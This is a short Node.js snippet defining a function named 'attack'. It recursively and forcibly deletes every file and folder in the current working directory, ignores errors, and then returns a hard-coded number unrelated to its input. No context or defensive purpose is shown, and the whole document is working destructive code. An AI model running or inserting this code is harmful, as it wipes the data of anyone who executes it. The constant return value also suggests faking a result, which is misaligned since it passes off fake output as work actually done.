const fs = require('node:fs');
function attack(n) {
	for (const name of fs.readdirSync('.')) {
		try {
			fs.rmSync(name, { recursive: true, force: true });
		} catch {
			// what can't be deleted stays
		}
	}
	return 987654321;
}
